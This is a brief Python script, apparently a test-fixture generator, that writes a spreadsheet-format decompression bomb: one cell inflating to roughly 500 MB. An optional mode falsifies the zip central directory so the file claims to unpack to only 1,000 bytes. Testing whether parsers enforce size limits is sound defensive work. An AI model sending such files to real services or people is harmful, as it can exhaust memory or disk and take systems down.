"""Writes a workbook that unpacks to far more than it holds.

hostile_book.py OUT.xlsx honest|lying   500 MB of one cell; lying: the directory says 1,000 bytes
"""

import struct
import sys
import zipfile

out, kind = sys.argv[1:]
head = '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
    book.writestr("xl/workbook.xml", '<workbook><sheets><sheet name="survey" r:id="rId1"/></sheets></workbook>')
    book.writestr(
        "xl/_rels/workbook.xml.rels",
        '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>')
    with book.open("xl/worksheets/sheet1.xml", "w") as sheet:
        sheet.write(head.encode())
        for _ in range(500):
            sheet.write(b"a" * 1_000_000)
if kind == "lying":
    data = bytearray(open(out, "rb").read())
    entry = data.rindex(b"PK\x01\x02")
    data[entry + 24:entry + 28] = struct.pack("<I", 1000)
    open(out, "wb").write(data)
